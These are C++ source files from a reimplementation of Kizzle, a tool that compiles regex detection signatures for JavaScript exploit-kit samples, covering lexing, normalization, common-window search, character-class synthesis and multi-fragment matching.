  bool ok = false;
  std::string failure;        // reason when !ok
  std::string pattern;        // regex source (the deployable signature)
  std::size_t token_length = 0;
  std::vector<Column> columns;

  // Length in characters — the quantity Fig 12 plots over time.
  std::size_t length() const { return pattern.size(); }
};

// Compiles a signature from the tokenized packed samples of one cluster.
// At least two samples are required (a single sample would yield a fully
// literal signature; callers may still pass one and get exactly that).
Signature compile_signature(
    std::span<const std::vector<text::Token>> samples,
    const CompilerParams& params = {});

// Builds a signature from an explicitly aligned window: `positions[s]` is
// the window start (token index) in sample s, `length` the window size in
// tokens. This is the column-analysis + emission half of the compiler,
// exposed for the multi-fragment extension (multi_fragment.h). Verification
// against the samples is the caller's responsibility (params.verify is
// ignored here).
Signature compile_window_signature(
    std::span<const std::vector<text::Token>> samples,
    std::span<const std::size_t> positions, std::size_t length,
    const CompilerParams& params);

// Convenience overload: raw script texts, tokenized internally (tolerant).
Signature compile_signature_from_sources(std::span<const std::string> sources,
                                         const CompilerParams& params = {});

// The normalized text a signature is matched against, for one script
// source: concatenation of normalized token texts. Exposed so tests and
// the evaluation harness share the exact definition with the compiler.
std::string normalized_token_text(std::span<const text::Token> tokens);

}  // namespace kizzle::sig
