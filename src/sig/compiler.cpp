#include "sig/compiler.h"

#include <algorithm>
#include <map>
#include <stdexcept>

#include "match/pattern.h"
#include "sig/common_window.h"
#include "sig/synthesis.h"
#include "support/interner.h"
#include "text/lexer.h"
#include "text/normalize.h"

namespace kizzle::sig {

std::string normalized_token_text(std::span<const text::Token> tokens) {
  std::string out;
  for (const text::Token& t : tokens) {
    for (char c : text::normalized_text(t)) {
      switch (c) {
        case ' ':
        case '\t':
        case '\r':
        case '\n':
        case '\f':
        case '\v':
        case '"':
        case '\'':
          break;
        default:
          out.push_back(c);
      }
    }
  }
  return out;
}

namespace {

// Normalized concrete value of one token (quotes and whitespace stripped).
std::string column_value(const text::Token& t) {
  std::string out;
  for (char c : text::normalized_text(t)) {
    switch (c) {
      case ' ':
      case '\t':
      case '\r':
      case '\n':
      case '\f':
      case '\v':
      case '"':
      case '\'':
        break;
      default:
        out.push_back(c);
    }
  }
  return out;
}

}  // namespace

Signature compile_window_signature(
    std::span<const std::vector<text::Token>> samples,
    std::span<const std::size_t> positions, std::size_t length,
    const CompilerParams& params) {
  Signature sig;
  if (samples.empty() || positions.size() != samples.size() || length == 0) {
    sig.failure = "bad window";
    return sig;
  }
  sig.token_length = length;

  // Collect per-column values across samples.
  const std::size_t n_samples = samples.size();
  std::vector<std::vector<std::string>> col_values(length);
  for (std::size_t j = 0; j < length; ++j) {
    col_values[j].reserve(n_samples);
    for (std::size_t s = 0; s < n_samples; ++s) {
      const text::Token& t = samples[s][positions[s] + j];
      col_values[j].push_back(column_value(t));
    }
  }

  // Columns: literal when all values agree; otherwise variable, possibly a
  // backreference of an earlier variable column with identical values in
  // every sample.
  std::map<std::vector<std::string>, std::size_t> first_with_values;
  int next_group = 0;
  sig.columns.resize(length);
  for (std::size_t j = 0; j < length; ++j) {
    Column& col = sig.columns[j];
    const auto& vals = col_values[j];
    const bool uniform =
        std::all_of(vals.begin(), vals.end(),
                    [&](const std::string& v) { return v == vals[0]; });
    if (uniform && vals[0].size() <= params.max_literal_run) {
      col.is_literal = true;
      col.literal = vals[0];
      continue;
    }
    auto [it, inserted] = first_with_values.emplace(vals, j);
    if (!inserted) {
      col.backref_of = static_cast<int>(it->second);
      continue;
    }
    col.group = next_group++;
    // Distinct values, first-seen order, for the class synthesis.
    for (const std::string& v : vals) {
      if (std::find(col.values.begin(), col.values.end(), v) ==
          col.values.end()) {
        col.values.push_back(v);
      }
    }
  }

  // Emit the pattern.
  std::string pattern;
  for (std::size_t j = 0; j < length; ++j) {
    const Column& col = sig.columns[j];
    if (col.is_literal) {
      pattern += escape_literal(col.literal);
    } else if (col.backref_of >= 0) {
      const Column& ref =
          sig.columns[static_cast<std::size_t>(col.backref_of)];
      pattern += "\\k<var" + std::to_string(ref.group) + ">";
    } else {
      // Converted long literals always get slack (their length drifts with
      // payload churn even though one day's samples agree exactly).
      const bool converted_literal =
          col.values.size() == 1 && col.values[0].size() > params.max_literal_run;
      const double slack = converted_literal
                               ? std::max(params.length_slack, 0.10)
                               : params.length_slack;
      // Character floor from the column's token class (only with slack:
      // slack == 0 is the paper-exact mode of Fig 9).
      std::string_view floor_chars;
      if (slack > 0.0) {
        const text::Token& t = samples[0][positions[0] + j];
        switch (t.cls) {
          case text::TokenClass::Identifier:
            floor_chars =
                "0123456789abcdefghijklmnopqrstuvwxyz"
                "ABCDEFGHIJKLMNOPQRSTUVWXYZ_$";
            break;
          case text::TokenClass::Number:
            floor_chars = "0123456789abcdefABCDEFxX.";
            break;
          default:
            break;  // strings/regex: content is arbitrary, rely on '.'
        }
      }
      const std::string cls = synthesize_class(col.values, slack, floor_chars);
      if (cls.empty()) continue;  // all values empty at this offset
      pattern +=
          "(?<var" + std::to_string(col.group) + ">" + cls + ")";
    }
  }
  if (pattern.empty()) {
    sig.failure = "window produced an empty pattern";
    return sig;
  }
  sig.pattern = std::move(pattern);
  sig.ok = true;
  return sig;
}

Signature compile_signature(std::span<const std::vector<text::Token>> samples,
                            const CompilerParams& params) {
  Signature sig;
  if (samples.empty()) {
    sig.failure = "no samples";
    return sig;
  }
  // Abstract all samples with a compiler-local interner.
  Interner interner;
  std::vector<std::vector<std::uint32_t>> streams;
  streams.reserve(samples.size());
  for (const auto& toks : samples) {
    streams.push_back(abstract_tokens(toks, params.abstraction, interner));
  }

  const CommonWindow window =
      find_common_window(streams, params.min_tokens, params.max_tokens);
  if (!window.found) {
    sig.failure = "no common unique token window of at least " +
                  std::to_string(params.min_tokens) + " tokens";
    return sig;
  }
  sig = compile_window_signature(samples, window.position, window.length,
                                 params);
  if (!sig.ok) return sig;

  if (params.verify) {
    match::Pattern compiled = match::Pattern::compile(sig.pattern);
    for (std::size_t s = 0; s < samples.size(); ++s) {
      const std::string text = normalized_token_text(samples[s]);
      if (!compiled.search(text).matched) {
        sig.ok = false;
        sig.failure = "verification failed on sample " + std::to_string(s);
        sig.pattern.clear();
        return sig;
      }
    }
  }
  return sig;
}

Signature compile_signature_from_sources(std::span<const std::string> sources,
                                         const CompilerParams& params) {
  std::vector<std::vector<text::Token>> tokenized;
  tokenized.reserve(sources.size());
  for (const std::string& src : sources) {
    tokenized.push_back(text::lex(src));
  }
  return compile_signature(tokenized, params);
}

}  // namespace kizzle::sig
