#include "sig/multi_fragment.h"

#include <stdexcept>

#include "sig/common_window.h"
#include "support/interner.h"
#include "text/abstraction.h"

namespace kizzle::sig {

std::size_t FragmentSignature::total_tokens() const {
  std::size_t n = 0;
  for (const Signature& f : fragments) n += f.token_length;
  return n;
}

std::size_t FragmentSignature::length() const {
  std::size_t n = 0;
  for (const Signature& f : fragments) n += f.pattern.size();
  return n;
}

FragmentSignature compile_multi_fragment(
    std::span<const std::vector<text::Token>> samples,
    const MultiFragmentParams& params) {
  FragmentSignature result;
  if (samples.empty()) {
    result.failure = "no samples";
    return result;
  }
  if (params.min_fragment_tokens == 0 ||
      params.min_fragment_tokens > params.max_fragment_tokens) {
    throw std::invalid_argument("compile_multi_fragment: bad fragment bounds");
  }

  Interner interner;
  std::vector<std::vector<std::uint32_t>> streams;
  streams.reserve(samples.size());
  for (const auto& toks : samples) {
    streams.push_back(
        abstract_tokens(toks, params.base.abstraction, interner));
  }

  // Greedy left-to-right fragment extraction over shrinking suffixes.
  std::vector<std::size_t> offset(samples.size(), 0);
  while (result.fragments.size() < params.max_fragments) {
    std::vector<std::vector<std::uint32_t>> suffixes;
    suffixes.reserve(streams.size());
    for (std::size_t s = 0; s < streams.size(); ++s) {
      suffixes.emplace_back(streams[s].begin() +
                                static_cast<std::ptrdiff_t>(offset[s]),
                            streams[s].end());
    }
    const CommonWindow window = find_common_window(
        suffixes, params.min_fragment_tokens, params.max_fragment_tokens);
    if (!window.found) break;

    std::vector<std::size_t> positions(samples.size());
    for (std::size_t s = 0; s < samples.size(); ++s) {
      positions[s] = offset[s] + window.position[s];
    }
    Signature fragment = compile_window_signature(samples, positions,
                                                  window.length, params.base);
    if (!fragment.ok) {
      // A degenerate window (e.g. all-empty normalized values); skip past
      // it and keep searching.
      for (std::size_t s = 0; s < samples.size(); ++s) {
        offset[s] = positions[s] + window.length;
      }
      continue;
    }
    result.fragments.push_back(std::move(fragment));
    for (std::size_t s = 0; s < samples.size(); ++s) {
      offset[s] = positions[s] + window.length;
    }
  }

  if (result.fragments.empty()) {
    result.failure = "no common fragments of at least " +
                     std::to_string(params.min_fragment_tokens) + " tokens";
    return result;
  }
  std::size_t total = 0;
  for (const Signature& f : result.fragments) total += f.token_length;
  if (total < params.min_total_tokens) {
    result.failure = "fragments cover only " + std::to_string(total) +
                     " tokens (minimum " +
                     std::to_string(params.min_total_tokens) + ")";
    result.fragments.clear();
    return result;
  }

  // Verify: the ordered fragment set must match every input sample.
  result.ok = true;
  FragmentMatcher matcher(result);
  for (std::size_t s = 0; s < samples.size(); ++s) {
    if (!matcher.matches(normalized_token_text(samples[s]))) {
      result.ok = false;
      result.failure = "verification failed on sample " + std::to_string(s);
      result.fragments.clear();
      return result;
    }
  }
  return result;
}

FragmentMatcher::FragmentMatcher(const FragmentSignature& signature,
                                 double min_fraction) {
  if (min_fraction <= 0.0 || min_fraction > 1.0) {
    throw std::invalid_argument("FragmentMatcher: min_fraction out of (0,1]");
  }
  patterns_.reserve(signature.fragments.size());
  for (const Signature& f : signature.fragments) {
    patterns_.push_back(match::Pattern::compile(f.pattern));
  }
  required_ = static_cast<std::size_t>(
      min_fraction * static_cast<double>(patterns_.size()) + 0.999);
  if (required_ == 0 && !patterns_.empty()) required_ = 1;
}

bool FragmentMatcher::matches(std::string_view normalized_text) const {
  if (patterns_.empty()) return false;
  std::size_t from = 0;
  std::size_t hits = 0;
  for (std::size_t i = 0; i < patterns_.size(); ++i) {
    // Enough fragments left to still reach the requirement?
    if (hits + (patterns_.size() - i) < required_) return false;
    const match::MatchResult r = patterns_[i].search(normalized_text, from);
    if (r.matched) {
      ++hits;
      from = r.end;
    }
  }
  return hits >= required_;
}

}  // namespace kizzle::sig
