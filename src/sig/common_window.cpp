#include "sig/common_window.h"

#include <algorithm>
#include <unordered_map>

#include "support/hash.h"

namespace kizzle::sig {

namespace {

// For a fixed window length n, returns the window positions (one per
// stream) of some n-gram that is common to all streams and unique in each,
// or an empty vector when none exists.
std::vector<std::size_t> exists_window(
    std::span<const std::vector<std::uint32_t>> streams, std::size_t n) {
  // Hash -> position for n-grams occurring exactly once in stream 0.
  constexpr std::size_t kDup = SIZE_MAX;
  std::unordered_map<std::uint64_t, std::size_t> unique0;
  {
    RollingHash rh(n);
    const auto& s = streams[0];
    if (s.size() < n) return {};
    std::uint64_t h = rh.init(s);
    for (std::size_t i = 0;; ++i) {
      auto [it, inserted] = unique0.emplace(h, i);
      if (!inserted) it->second = kDup;
      if (i + n >= s.size()) break;
      h = rh.roll(s[i], s[i + n]);
    }
  }
  // Candidate set: hashes unique in every stream so far, with positions.
  struct Candidate {
    std::size_t pos0;
    std::vector<std::size_t> pos_rest;
  };
  std::unordered_map<std::uint64_t, Candidate> candidates;
  for (const auto& [h, pos] : unique0) {
    if (pos != kDup) candidates.emplace(h, Candidate{pos, {}});
  }
  for (std::size_t si = 1; si < streams.size() && !candidates.empty(); ++si) {
    const auto& s = streams[si];
    if (s.size() < n) return {};
    std::unordered_map<std::uint64_t, std::size_t> seen;
    RollingHash rh(n);
    std::uint64_t h = rh.init(s);
    for (std::size_t i = 0;; ++i) {
      if (candidates.contains(h)) {
        auto [it, inserted] = seen.emplace(h, i);
        if (!inserted) it->second = kDup;
      }
      if (i + n >= s.size()) break;
      h = rh.roll(s[i], s[i + n]);
    }
    for (auto it = candidates.begin(); it != candidates.end();) {
      auto hit = seen.find(it->first);
      if (hit == seen.end() || hit->second == kDup) {
        it = candidates.erase(it);
      } else {
        it->second.pos_rest.push_back(hit->second);
        ++it;
      }
    }
  }
  if (candidates.empty()) return {};
  // Prefer the leftmost window in stream 0 (deterministic choice), and
  // verify actual symbol equality to guard against hash collisions.
  std::vector<std::pair<std::uint64_t, const Candidate*>> ordered;
  ordered.reserve(candidates.size());
  for (const auto& [h, c] : candidates) ordered.emplace_back(h, &c);
  std::sort(ordered.begin(), ordered.end(),
            [](const auto& a, const auto& b) {
              return a.second->pos0 < b.second->pos0;
            });
  for (const auto& [h, cand] : ordered) {
    bool ok = true;
    for (std::size_t si = 1; si < streams.size() && ok; ++si) {
      const std::size_t p = cand->pos_rest[si - 1];
      for (std::size_t j = 0; j < n; ++j) {
        if (streams[si][p + j] != streams[0][cand->pos0 + j]) {
          ok = false;
          break;
        }
      }
    }
    if (ok) {
      std::vector<std::size_t> out;
      out.reserve(streams.size());
      out.push_back(cand->pos0);
      out.insert(out.end(), cand->pos_rest.begin(), cand->pos_rest.end());
      return out;
    }
  }
  return {};
}

}  // namespace

CommonWindow find_common_window(
    std::span<const std::vector<std::uint32_t>> streams, std::size_t min_len,
    std::size_t max_len) {
  CommonWindow result;
  if (streams.empty() || min_len == 0 || min_len > max_len) return result;
  std::size_t shortest = SIZE_MAX;
  for (const auto& s : streams) shortest = std::min(shortest, s.size());
  if (shortest < min_len) return result;
  max_len = std::min(max_len, shortest);

  // Binary search the largest N with an existing window (paper's
  // algorithm). Uniqueness can make existence non-monotone; the search
  // still converges to a valid N, and we extend greedily afterwards.
  std::size_t lo = min_len;
  std::size_t hi = max_len;
  std::size_t best_n = 0;
  std::vector<std::size_t> best_pos;
  while (lo <= hi) {
    const std::size_t mid = lo + (hi - lo) / 2;
    auto pos = exists_window(streams, mid);
    if (!pos.empty()) {
      best_n = mid;
      best_pos = std::move(pos);
      lo = mid + 1;
    } else {
      if (mid == 0) break;
      hi = mid - 1;
    }
  }
  if (best_n == 0) return result;
  // Greedy upward extension past non-monotone gaps.
  for (std::size_t n = best_n + 1; n <= max_len; ++n) {
    auto pos = exists_window(streams, n);
    if (pos.empty()) break;
    best_n = n;
    best_pos = std::move(pos);
  }
  result.found = true;
  result.length = best_n;
  result.position = std::move(best_pos);
  return result;
}

}  // namespace kizzle::sig
