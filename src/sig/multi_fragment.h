// Multi-fragment signatures — the §V extension of the paper.
//
// "An attacker aware of the signature creation algorithm can try to modify
//  his packer such that our algorithm fails. An example for this is the
//  insertion of a random number of superfluous JavaScript instructions
//  between relevant operations to beat the structural signatures. We
//  believe, however, that our approach can be extended to create
//  signatures which not only match one consecutive token sequence, but
//  rather consist of multiple, shorter sequences."
//
// This module implements that extension. Instead of one long common
// window, the compiler greedily extracts up to `max_fragments` *disjoint*
// common-unique token windows, left to right: find the longest window in
// the current suffixes, emit it as a fragment (reusing the single-window
// column analysis), advance every sample past it, repeat. Junk inserted
// between the kit's real statements caps the length of any single common
// run — killing single-sequence signatures — but the statements themselves
// survive as shorter fragments.
//
// Matching requires every fragment, in order, at non-overlapping
// positions.
#pragma once

#include <memory>
#include <span>
#include <string>
#include <vector>

#include "match/pattern.h"
#include "sig/compiler.h"

namespace kizzle::sig {

struct MultiFragmentParams {
  std::size_t max_fragments = 5;
  std::size_t min_fragment_tokens = 4;   // per-fragment floor
  std::size_t max_fragment_tokens = 60;  // "multiple, shorter sequences"
  std::size_t min_total_tokens = 12;     // reject weak fragment sets
  CompilerParams base;                   // abstraction / slack settings
};

struct FragmentSignature {
  bool ok = false;
  std::string failure;
  std::vector<Signature> fragments;  // in match order

  std::size_t total_tokens() const;
  // Total character length (Fig 12 metric, summed over fragments).
  std::size_t length() const;
};

// Compiles a fragment signature from the tokenized packed samples of one
// cluster. Verification (every fragment set matches every input sample in
// order) is always performed.
FragmentSignature compile_multi_fragment(
    std::span<const std::vector<text::Token>> samples,
    const MultiFragmentParams& params = {});

// Ordered matcher over the fragment patterns.
//
// `min_fraction` controls tolerance: 1.0 requires every fragment; lower
// values require ceil(fraction * n) fragments, still in order. Tolerant
// matching is what makes fragment signatures robust against junk whose
// position is randomized per sample — a fragment that happens to span a
// junk insertion point in one particular sample is simply skipped, and
// the remaining fragments still pin down the kit.
class FragmentMatcher {
 public:
  explicit FragmentMatcher(const FragmentSignature& signature,
                           double min_fraction = 1.0);

  // True iff at least ceil(min_fraction * n) fragments match, in order,
  // without overlap.
  bool matches(std::string_view normalized_text) const;

  std::size_t fragment_count() const { return patterns_.size(); }

 private:
  std::vector<match::Pattern> patterns_;
  std::size_t required_ = 0;
};

}  // namespace kizzle::sig
