// Regex synthesis for variable token columns (paper §III.C, Fig 9).
//
// Once samples of a cluster are aligned on the common token window, the
// concrete values at each token offset either agree (emit a literal) or
// vary (emit a character-class expression). The class is chosen by brute
// force from a predefined template ladder, most-specific first — exactly
// the paper's "predefined set of common patterns such as [a-z]+,
// [a-zA-Z0-9]+, etc." — with observed length bounds.
//
// Length slack: the paper compiled signatures from clusters with hundreds
// of samples, so the observed min/max lengths covered the kit's true
// randomization range. At smaller cluster sizes the observed range
// under-samples the distribution and day-two samples fall outside it; the
// `slack` parameter widens the bounds by max(observed spread,
// ceil(slack * len)) on each side. slack = 0 reproduces the paper's exact
// Fig 9 output and is the default.
#pragma once

#include <span>
#include <string>
#include <vector>

namespace kizzle::sig {

// A named character-class template. `chars` lists the allowed characters.
struct ClassTemplate {
  std::string name;   // the class text, e.g. "[0-9a-z]"
  std::string chars;  // expansion used for the containment check
};

// The default template ladder, ordered most-specific first.
const std::vector<ClassTemplate>& default_templates();

// Synthesizes a regex fragment matching every string in `values`
// (which must be non-empty as a list; individual values may be empty).
// Returns the fragment, e.g. "[0-9a-zA-Z]{3,6}" or ".{11}". Falls back to
// ".{min,max}" when no template covers the observed characters.
//
// With slack > 0, the {lo,hi} bounds are widened as described above;
// widening applies even when all observed lengths agree (needed when a
// single long literal is being converted to a class).
//
// `floor_chars` (optional) are treated as observed even if no value
// contains them. The signature compiler passes the legal alphabet of the
// column's token class (identifier characters for Identifier columns,
// numeric characters for Number columns): a handful of samples
// under-samples the character distribution just like it under-samples
// lengths, and the token class is a sound upper bound.
std::string synthesize_class(std::span<const std::string> values,
                             double slack = 0.0,
                             std::string_view floor_chars = {});

// Escape a literal so it matches itself (delegates to Pattern::escape).
std::string escape_literal(const std::string& value);

}  // namespace kizzle::sig
