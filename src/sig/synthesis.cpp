#include "sig/synthesis.h"

#include <algorithm>
#include <array>
#include <bitset>
#include <stdexcept>

#include "match/pattern.h"

namespace kizzle::sig {

namespace {

std::string make_range(char lo, char hi) {
  std::string out;
  for (char c = lo;; ++c) {
    out.push_back(c);
    if (c == hi) break;
  }
  return out;
}

}  // namespace

const std::vector<ClassTemplate>& default_templates() {
  static const std::vector<ClassTemplate> kTemplates = [] {
    const std::string digits = make_range('0', '9');
    const std::string lower = make_range('a', 'z');
    const std::string upper = make_range('A', 'Z');
    std::vector<ClassTemplate> t;
    t.push_back({"[0-9]", digits});
    t.push_back({"[a-z]", lower});
    t.push_back({"[A-Z]", upper});
    t.push_back({"[a-zA-Z]", lower + upper});
    t.push_back({"[0-9a-z]", digits + lower});
    t.push_back({"[0-9A-Z]", digits + upper});
    t.push_back({"[0-9a-zA-Z]", digits + lower + upper});
    t.push_back({"[0-9a-zA-Z_$]", digits + lower + upper + "_$"});
    // No broader template: values with other characters fall back to '.'
    // bounded by length, matching the paper's Fig 9 output (".{11}" for
    // the delimiter-bearing eval strings).
    return t;
  }();
  return kTemplates;
}

std::string synthesize_class(std::span<const std::string> values,
                             double slack, std::string_view floor_chars) {
  if (values.empty()) {
    throw std::invalid_argument("synthesize_class: no values");
  }
  if (slack < 0.0) {
    throw std::invalid_argument("synthesize_class: negative slack");
  }
  std::size_t min_len = SIZE_MAX;
  std::size_t max_len = 0;
  std::bitset<256> observed;
  for (const std::string& v : values) {
    min_len = std::min(min_len, v.size());
    max_len = std::max(max_len, v.size());
    for (char c : v) observed.set(static_cast<unsigned char>(c));
  }
  for (char c : floor_chars) observed.set(static_cast<unsigned char>(c));
  if (slack > 0.0) {
    const std::size_t spread = max_len - min_len;
    const auto rel = static_cast<std::size_t>(
        slack * static_cast<double>(max_len) + 0.999);
    const std::size_t widen = std::max(spread, rel);
    min_len = (min_len > widen) ? min_len - widen : 0;
    max_len += widen;
  }
  auto bounds = [&]() -> std::string {
    if (min_len == max_len) return "{" + std::to_string(min_len) + "}";
    return "{" + std::to_string(min_len) + "," + std::to_string(max_len) + "}";
  };
  if (max_len == 0) return "";  // all values empty: nothing to match
  for (const ClassTemplate& t : default_templates()) {
    std::bitset<256> allowed;
    for (char c : t.chars) allowed.set(static_cast<unsigned char>(c));
    if ((observed & ~allowed).none()) {
      return t.name + bounds();
    }
  }
  return "." + bounds();
}

std::string escape_literal(const std::string& value) {
  return match::Pattern::escape(value);
}

}  // namespace kizzle::sig
