// Search for the longest common token window (paper §III.C, step 1).
//
// "The first step in signature creation is to find a maximum value of N
//  such that every sample in a cluster has a common token string
//  subsequence of length up to N tokens. We cap this maximum length at 200
//  tokens. We find this subsequence with binary search, varying N, and
//  determining if a common subsequence of length N exists. An additional
//  constraint ... is that it is unique in every sample."
//
// The "subsequence" is contiguous (see Fig 9 and the §V discussion of
// "one consecutive token sequence"). Existence for a fixed N is decided
// with rolling-hash n-gram intersection across samples, keeping only
// n-grams that occur exactly once in every sample; candidates are verified
// symbol-by-symbol to rule out hash collisions.
//
// Note: uniqueness makes existence non-monotone in N in contrived cases
// (a longer unique window can exist while every shorter one repeats), so
// after the binary search we greedily extend upward while longer windows
// keep existing. This matches the paper's algorithm with a small
// robustness fix.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

namespace kizzle::sig {

struct CommonWindow {
  bool found = false;
  std::size_t length = 0;                // N, in tokens
  std::vector<std::size_t> position;     // window start per sample
};

// Finds the longest window of length in [min_len, max_len] of abstract
// symbols common to all streams and unique within each. Returns
// found=false when no window of at least min_len exists (or streams is
// empty / any stream is shorter than min_len).
CommonWindow find_common_window(
    std::span<const std::vector<std::uint32_t>> streams, std::size_t min_len,
    std::size_t max_len);

}  // namespace kizzle::sig
