// A self-contained JavaScript (ES5-level) lexer.
//
// Kizzle tokenizes every incoming sample, so the lexer is built for
// throughput and for resilience: drive-by malware is frequently malformed,
// so the default mode is tolerant — unterminated literals are clipped and
// unexpected bytes become single-character punctuators instead of failures.
// Strict mode (tolerant=false) throws LexError and is used in tests and by
// the unpackers, where malformed input indicates a wrong format guess.
#pragma once

#include <cstddef>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "text/token.h"

namespace kizzle::text {

class LexError : public std::runtime_error {
 public:
  LexError(const std::string& what, std::size_t offset)
      : std::runtime_error(what), offset_(offset) {}
  std::size_t offset() const { return offset_; }

 private:
  std::size_t offset_;
};

struct LexOptions {
  bool tolerant = true;
};

// Tokenizes JavaScript source. Comments and whitespace are consumed and do
// not appear in the output. Regex literals are recognized with the standard
// prev-token heuristic (a '/' starts a regex unless the previous significant
// token can end an expression).
std::vector<Token> lex(std::string_view source, const LexOptions& opts = {});

// True if `word` is a JavaScript keyword / reserved word (ES5 set plus
// null/true/false literals, which the paper's tokenizer treats as keywords).
bool is_keyword(std::string_view word);

}  // namespace kizzle::text
