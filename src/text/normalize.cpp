#include "text/normalize.h"

#include "text/html.h"
#include "text/lexer.h"

namespace kizzle::text {

void normalize_raw_append(std::string_view content, std::string& out) {
  for (char c : content) {
    switch (c) {
      case ' ':
      case '\t':
      case '\r':
      case '\n':
      case '\f':
      case '\v':
      case '"':
      case '\'':
        break;
      default:
        out.push_back(c);
    }
  }
}

std::string normalize_raw(std::string_view content) {
  std::string out;
  out.reserve(content.size());
  normalize_raw_append(content, out);
  return out;
}

std::string normalize_js(std::string_view source) {
  std::vector<Token> tokens;
  try {
    tokens = lex(source, LexOptions{.tolerant = true});
  } catch (const LexError&) {
    return normalize_raw(source);
  }
  std::string out;
  out.reserve(source.size());
  for (const Token& t : tokens) {
    std::string_view piece = normalized_text(t);
    // Strings may still contain whitespace/quote characters inside; an AV
    // normalizer removes those too, so stay consistent with normalize_raw.
    for (char c : piece) {
      switch (c) {
        case ' ':
        case '\t':
        case '\r':
        case '\n':
        case '\f':
        case '\v':
        case '"':
        case '\'':
          break;
        default:
          out.push_back(c);
      }
    }
  }
  return out;
}

std::string normalize_document(std::string_view html) {
  std::string out;
  for (const ScriptBlock& block : extract_scripts(html)) {
    if (block.has_src &&
        block.body.find_first_not_of(" \t\r\n") == std::string::npos) {
      continue;
    }
    if (!out.empty()) out.push_back('\n');
    out.append(normalize_js(block.body));
  }
  return out;
}

}  // namespace kizzle::text
