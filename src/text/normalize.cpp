#include "text/normalize.h"

#include "text/html.h"
#include "text/lexer.h"

namespace kizzle::text {

void normalize_raw_append(std::string_view content, std::string& out) {
  for (char c : content) {
    switch (c) {
      case ' ':
      case '\t':
      case '\r':
      case '\n':
      case '\f':
      case '\v':
      case '"':
      case '\'':
        break;
      default:
        out.push_back(c);
    }
  }
}

std::string normalize_raw(std::string_view content) {
  std::string out;
  out.reserve(content.size());
  normalize_raw_append(content, out);
  return out;
}

std::string normalize_js(std::string_view source) {
  std::vector<Token> tokens;
  try {
    tokens = lex(source, LexOptions{.tolerant = true});
  } catch (const LexError&) {
    return normalize_raw(source);
  }
  std::string out;
  out.reserve(source.size());
  for (const Token& t : tokens) {
    // Strings may still contain whitespace/quote characters inside; an AV
    // normalizer removes those too, so each token piece goes through the
    // one raw strip loop — the two normalizers cannot drift.
    normalize_raw_append(normalized_text(t), out);
  }
  return out;
}

std::string normalize_document(std::string_view html) {
  // Plain concatenation, no separator. The previous '\n' joiner was a byte
  // normalization itself strips, so the document text was not a fixed
  // point of normalize_raw: any channel that re-normalized it silently
  // glued adjacent blocks into different scan text than a document scan
  // saw. Concatenating keeps the whole-document text equal to the
  // per-script channel's texts laid end to end — every per-script match is
  // a document match, and the document text is stable under every
  // normalizer (pinned in tests/normalize_test.cpp).
  std::string out;
  for (const ScriptBlock& block : extract_scripts(html)) {
    if (block.has_src &&
        block.body.find_first_not_of(" \t\r\n") == std::string::npos) {
      continue;
    }
    out.append(normalize_js(block.body));
  }
  return out;
}

}  // namespace kizzle::text
