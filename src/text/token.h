// JavaScript token model (paper Fig 8).
//
// Kizzle abstracts concrete JavaScript into a stream of classified tokens;
// clustering runs on the abstracted stream while signature generation needs
// the concrete text at each token offset. Token keeps both.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

namespace kizzle::text {

enum class TokenClass : std::uint8_t {
  Keyword,     // var, function, return, ...
  Identifier,  // Euur1V, document, ...
  Punctuator,  // = [ ] ( ) ; += ...
  String,      // "ev#333399al" (text includes the quotes)
  Number,      // 47, 0x1F, 1.5e3
  Regex,       // /ab+c/g (regex literal, including flags)
};

// Short stable name for a token class ("Keyword", "Identifier", ...).
std::string_view token_class_name(TokenClass cls);

struct Token {
  TokenClass cls;
  std::string text;    // exact source slice
  std::size_t offset;  // byte offset in the source

  bool operator==(const Token&) const = default;
};

// The concrete text a token contributes to AV-normalized output: strings
// lose their surrounding quote characters (paper Fig 9: "quotation marks
// ... are automatically removed by AV scanners in a normalization step"),
// everything else passes through unchanged.
std::string_view normalized_text(const Token& t);

}  // namespace kizzle::text
