// Minimal HTML handling: extraction of inline <script> bodies.
//
// A Kizzle sample is "a complete HTML document, including all inline script
// elements" (paper §III). We do not need a DOM — only the inline script
// payloads, in document order. External scripts (src= attribute with an
// empty body) are skipped because their content is not in the sample.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace kizzle::text {

struct ScriptBlock {
  std::string body;        // raw text between <script ...> and </script>
  std::size_t offset;      // byte offset of the body in the document
  bool has_src = false;    // true if the tag had a src= attribute
};

// Extracts all <script> blocks (case-insensitive tags, attribute-aware
// enough for real pages: quoted attribute values may contain '>').
std::vector<ScriptBlock> extract_scripts(std::string_view html);

// Concatenates the bodies of all inline (non-src) scripts, separated by a
// single newline. This is the JavaScript a sample contributes to Kizzle.
std::string inline_script_text(std::string_view html);

}  // namespace kizzle::text
