#include "text/lexer.h"

#include <array>
#include <unordered_set>

namespace kizzle::text {

std::string_view token_class_name(TokenClass cls) {
  switch (cls) {
    case TokenClass::Keyword: return "Keyword";
    case TokenClass::Identifier: return "Identifier";
    case TokenClass::Punctuator: return "Punctuation";
    case TokenClass::String: return "String";
    case TokenClass::Number: return "Number";
    case TokenClass::Regex: return "Regex";
  }
  return "?";
}

std::string_view normalized_text(const Token& t) {
  if (t.cls == TokenClass::String && t.text.size() >= 2) {
    const char q = t.text.front();
    if ((q == '"' || q == '\'') && t.text.back() == q) {
      return std::string_view(t.text).substr(1, t.text.size() - 2);
    }
  }
  return t.text;
}

bool is_keyword(std::string_view word) {
  static const std::unordered_set<std::string_view> kKeywords = {
      "break",      "case",     "catch",   "continue", "debugger",
      "default",    "delete",   "do",      "else",     "finally",
      "for",        "function", "if",      "in",       "instanceof",
      "new",        "return",   "switch",  "this",     "throw",
      "try",        "typeof",   "var",     "void",     "while",
      "with",       "class",    "const",   "enum",     "export",
      "extends",    "import",   "super",   "let",      "static",
      "yield",      "null",     "true",    "false",
  };
  return kKeywords.contains(word);
}

namespace {

bool is_id_start(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' ||
         c == '$' || static_cast<unsigned char>(c) >= 0x80;
}

bool is_id_part(char c) {
  return is_id_start(c) || (c >= '0' && c <= '9');
}

bool is_digit(char c) { return c >= '0' && c <= '9'; }

bool is_hex_digit(char c) {
  return is_digit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}

bool is_space(char c) {
  return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' ||
         c == '\v';
}

